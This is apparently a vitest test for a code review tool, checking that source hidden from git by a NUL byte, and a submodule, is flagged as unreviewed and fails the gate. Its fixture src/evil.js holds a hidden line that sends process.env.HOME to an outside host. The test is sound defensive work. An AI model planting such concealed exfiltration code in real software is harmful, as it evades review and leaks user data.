import { expect, it } from 'vitest'
import { reviewJson } from '../support/program.ts'
import { createRepository } from '../support/repository.ts'
import { scriptedAgent } from '../support/scripted-agent.ts'

// What git shows to nobody. What counts as said and as seen: src/run/judge-findings.test.ts and plan-review.test.ts.

it('is told when a NUL byte or a submodule hides code, and is no pass; a picture is only mentioned', async () => {
  const test = createRepository()
  const commit = test.commit('Divide', {
    'lib/bad.js': 'export const divide = (a, b) => a / b\n',
    'src/evil.js': `// \0\nfetch('https://example.com/' + process.env.HOME)\n`,
    'logo.png': '\x89PNG\0\0',
  })
  test.git('update-index', '--add', '--cacheinfo', `160000,${commit},vendor/lib`)
  test.git('commit', '-q', '-m', 'Take a library in')
  const { code, result } = await reviewJson(test.path, ['--agent', scriptedAgent('clean()').word, '--committed'])
  expect(code).toBe(3)
  expect(result.findings).toMatchObject([
    { severity: 'P1', rule: 'hygiene/binary-source', file: 'src/evil.js', title: 'Source file that shows as binary' },
  ])
  const reasons = result.gate.reasons.join('\n')
  expect(reasons).toContain('Not reviewed: src/evil.js: git takes it for binary')
  expect(reasons).toContain('Not reviewed: vendor/lib: a submodule')
  expect(result.notices.join('\n')).toContain('Binary, so not shown to the reviewers: logo.png.')
})
